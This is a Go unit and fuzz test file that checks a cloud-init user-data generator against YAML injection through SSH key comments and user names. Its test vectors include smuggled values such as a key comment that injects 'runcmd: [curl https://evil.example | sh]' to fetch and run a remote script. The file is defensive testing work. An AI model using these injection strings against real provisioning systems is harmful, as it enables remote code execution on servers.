package cloud_test

import (
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"go.yaml.in/yaml/v3"

	"github.com/sindri-dev/sindri-packer/internal/cloud"
)

const edKey = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGsJ6bM6vUp0PZ8Oa4Fw8Zt4fKk1Q7fX0j2Zp8xYq3bC"

// userDataKeys are deploy keys whose comment is YAML syntax: each must come
// out as exactly one authorized key, unchanged, and add nothing else.
var userDataKeys = []string{
	edKey + " me@laptop",
	edKey + " me: admin",
	edKey + " x\rruncmd: [curl https://evil.example | sh]",
	edKey + " x\nruncmd:\n  - id",
	edKey + " x\r\nwrite_files: []",
	edKey + " #not a comment",
	edKey + ` "quoted" 'single' ` + "`tick`",
	edKey + " - item",
	edKey + " {flow: map}",
	edKey + " &anchor *alias !tag %directive @at |block >folded",
	edKey + " ${{ github.token }}",
	edKey,
}

// parseUserData checks the #cloud-config header and decodes the document.
func parseUserData(t *testing.T, ud string) map[string]any {
	t.Helper()
	if !strings.HasPrefix(ud, "#cloud-config\n") {
		t.Fatalf("user data does not start with #cloud-config:\n%s", ud)
	}
	var doc map[string]any
	if err := yaml.Unmarshal([]byte(ud), &doc); err != nil {
		t.Fatalf("user data is not YAML: %v\n%s", err, ud)
	}
	return doc
}

// checkOneUser checks that doc holds only users:, one user with user's
// name and key as its only authorized key.
func checkOneUser(t *testing.T, ud, user, key string) {
	t.Helper()
	doc := parseUserData(t, ud)
	var top []string
	for k := range doc {
		top = append(top, k)
	}
	if !slices.Equal(top, []string{"users"}) {
		t.Fatalf("top-level keys %q, want only users, in\n%q", top, ud)
	}
	users, _ := doc["users"].([]any)
	if len(users) != 1 {
		t.Fatalf("%d users, want 1, in\n%q", len(users), ud)
	}
	u, _ := users[0].(map[string]any)
	keys, _ := u["ssh_authorized_keys"].([]any)
	if u["name"] != user || len(keys) != 1 || keys[0] != key {
		t.Errorf("user %#v, want name %q with the one key %q, in\n%q", u, user, key, ud)
	}
	if u["sudo"] != "ALL=(ALL) NOPASSWD:ALL" || u["shell"] != "/bin/bash" {
		t.Errorf("user %#v lacks passwordless sudo or bash", u)
	}
}

// Issue 10 item 8: the key was pasted unquoted into the YAML.
func TestUserDataKeyIsOneYAMLString(t *testing.T) {
	t.Parallel()
	for _, key := range userDataKeys {
		ud := cloud.UserData(cloud.LaunchRequest{User: "sindri", PublicKey: key})
		checkOneUser(t, ud, "sindri", key)
	}
}

// FuzzUserData: whatever the key and user name, the user data is one user
// with that name and that one key, and nothing else.
func FuzzUserData(f *testing.F) {
	for _, k := range userDataKeys {
		f.Add("sindri", k)
	}
	f.Add("ubuntu\nruncmd: [id]", edKey)
	f.Add("a: b", "- x")
	f.Fuzz(func(t *testing.T, user, key string) {
		if !validUTF8NoNUL(user) || !validUTF8NoNUL(key) {
			return // keys are checked text (sshkey.ParseAuthorized), users a name pattern
		}
		ud := cloud.UserData(cloud.LaunchRequest{User: user, PublicKey: key})
		checkOneUser(t, ud, user, key)
	})
}

func validUTF8NoNUL(s string) bool {
	if !utf8.ValidString(s) {
		return false
	}
	for _, r := range s {
		// YAML cannot carry these in any scalar form the decoder returns
		// unchanged; the callers never pass them.
		if r < 0x20 && r != '\t' && r != '\n' && r != '\r' || r == 0x7f || r == 0xfeff || (r >= 0x80 && r < 0xa0) || r == 0x2028 || r == 0x2029 {
			return false
		}
	}
	return true
}
